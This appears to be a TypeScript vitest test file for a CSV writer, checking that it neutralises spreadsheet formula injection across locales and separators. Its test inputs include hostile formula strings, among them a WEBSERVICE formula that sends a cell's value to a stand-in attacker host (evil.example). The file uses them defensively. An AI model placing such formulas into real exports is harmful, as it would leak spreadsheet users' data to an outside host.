import { describe, expect, test } from 'vitest';
import { toCsv } from './csv';

/** A formula sign at a cell's start (after spaces or quotes some apps trim), OWASP's list. */
const formula = /^[ "]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/**
 * The cells a spreadsheet in any locale may see in `csv`: split on commas, `;`, TABs and line
 * breaks and ignoring every quote, as Excel does in a semicolon locale (it splits a
 * comma-separated line on `;` only, so the quotes of RFC 4180 are no longer at a cell's start).
 */
const naiveCells = (csv: string) => csv.split(/[,;\t\r\n]/);

describe('toCsv', () => {
  test('writes CRLF rows and quotes what needs quoting', () => {
    expect(
      toCsv([
        ['Card number', 'Card URL'],
        ['a,b', 'say "hi"'],
      ]),
    ).toBe('Card number,Card URL\r\n"a,b","say ""hi"""\r\n');
  });

  test('neutralises spreadsheet formulas', () => {
    expect(toCsv([['=SUM(A1)', '+1', '-1', '@x']])).toBe("'=SUM(A1),'+1,'-1,'@x\r\n");
  });

  test('neutralises a leading TAB, CR and full-width formula signs (OWASP CSV injection)', () => {
    expect(toCsv([['\t=1', '\r=1', '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20x']])).toBe(
      "\"'\t'=1\",\"'\r'=1\",'\uFF1D1+1,'\uFF0B1,'\uFF0D1,'\uFF20x\r\n",
    );
  });

  test('a semicolon locale splits on `;`: the cell after it is no formula, and the field is quoted', () => {
    expect(toCsv([['Vera', 'Acme;=WEBSERVICE("https://evil.example/?"&A1)']])).toBe(
      'Vera,"Acme;\'=WEBSERVICE(""https://evil.example/?""&A1)"\r\n',
    );
  });

  test('no cell any spreadsheet may see starts with a formula sign, whatever it splits on', () => {
    const hostile = [
      'Acme;=1+1',
      'a,=1',
      'a\t@SUM(A1)',
      'a\n-1',
      'a\r\n+1',
      'a; =1',
      'a;"=1"',
      'a;;\t=1',
      'x;\uFF1D1',
      '\t=1',
      '\t\t@x',
      '=1;=2,=3\t=4\n=5',
    ];
    const csv = toCsv([hostile]);
    expect(naiveCells(csv).filter((cell) => formula.test(cell))).toEqual([]);
    // Each field holding a separator, a quote or a line break is one quoted field.
    expect(csv.split('","')).toHaveLength(hostile.length);
  });
});
